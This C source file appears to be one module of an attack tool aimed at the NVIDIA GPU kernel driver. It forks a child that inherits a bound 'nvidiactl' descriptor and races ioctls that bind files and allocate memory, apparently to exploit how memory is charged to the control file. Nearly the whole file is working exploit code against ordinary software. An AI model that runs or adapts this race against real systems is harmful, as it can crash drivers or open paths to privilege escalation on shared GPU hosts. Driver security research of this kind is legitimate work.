// SPDX-License-Identifier: Apache-2.0
/*
 * Files that are bound to the program's control file while others use them, and a forked child that has inherited such
 * files but not the control file: what comes through them is charged as if it came through the control file.
 */
#include <signal.h>
#include <sys/prctl.h>
#include <sys/wait.h>
#include <unistd.h>

#include "attack.h"

#define CHILD_HANDLE (NV_OBJECTS + 0x900000)

static pid_t child;

static int bind_to(const struct nv *nv, int file)
{
	u8 params[64] = { 0 };

	rm_put32(params, nv->abi->register_fd.ctl_fd, nv->ctl);
	return nv_ioctl(file, NV_ESC_REGISTER_FD, params, nv->abi->register_fd.len);
}

/* Until it is killed: memory by the bound control file, and the view of all memory by the bound device file. */
static void __attribute__((noreturn)) inherit(struct attack *attack, int bound)
{
	const struct nv_memory_request ask = { .class = NV01_MEMORY_LOCAL_USER, .size = attack->slack + PIECE };
	u32 handle;

	prctl(PR_SET_PDEATHSIG, SIGKILL);
	close(attack->nv.ctl);
	attack->nv.ctl = bound;
	for (;;) {
		handle = CHILD_HANDLE;
		nv_memory(&attack->nv, attack->client, attack->device, &handle, &ask, NULL);
		nv_free(&attack->nv, attack->client, attack->device, CHILD_HANDLE);
		handle = CHILD_HANDLE + 1;
		nv_alloc_memory(&attack->nv, attack->gpu, attack->client, attack->device, &handle,
				NV01_MEMORY_LOCAL_USER, 0, 0, ask.size - 1);
		nv_free(&attack->nv, attack->client, attack->device, CHILD_HANDLE + 1);
	}
}

static void start(struct attack *attack)
{
	int bound = nv_must_open_device("nvidiactl");

	if (bind_to(&attack->nv, bound))
		nv_die("bind a control file: %s", strerror(errno));
	bind_to(&attack->nv, attack->gpu); /* only the first time */
	fflush(stdout);
	child = fork();
	if (child < 0)
		nv_die("fork: %s", strerror(errno));
	if (!child)
		inherit(attack, bound);
	close(bound);
	atomic_store(&attack->racing_file, -1);
}

static void stop(struct attack *attack)
{
	int file = atomic_exchange(&attack->racing_file, -1);

	if (file >= 0)
		close(file);
	kill(child, SIGKILL);
	waitpid(child, NULL, 0);
	nv_free(&attack->nv, attack->client, attack->device, CHILD_HANDLE);
	nv_free(&attack->nv, attack->client, attack->device, CHILD_HANDLE + 1);
}

/* Lane 0 opens files and binds them while the others allocate through them already. */
static u32 ask(struct lane *lane)
{
	struct attack *attack = lane->attack;
	const struct rm_abi *abi = attack->nv.abi;
	u8 params[512] = { 0 };
	u32 handle = lane->handle, status;
	int file;

	if (!lane->nr) {
		file = nv_open_device("nvidiactl");
		if (file < 0)
			return NV_ERRNO(-file);
		status = (u32)atomic_exchange(&attack->racing_file, file);
		bind_to(&attack->nv, file);
		if ((int)status >= 0)
			close((int)status);
		return NV_ERR_BUSY_RETRY;
	}
	file = atomic_load(&attack->racing_file);
	if (file < 0)
		return NV_ERR_BUSY_RETRY;
	rm_put32(params, abi->memory.owner, attack->client);
	rm_put64(params, abi->memory.size, lane_random(lane) & 1 ? lane->big : lane->small);
	status = nv_alloc_on(&attack->nv, file, attack->client, attack->device, &handle, NV01_MEMORY_LOCAL_USER, params,
			     abi->memory.len);
	nv_free(&attack->nv, attack->client, attack->device, lane->handle);
	return status;
}

const struct way bound_ways[] = {
	{ "bound", "memory through files that are being bound, and by a child that inherited a bound one", NULL, ask, NULL, start,
	  stop, true },
	{ 0 }
};
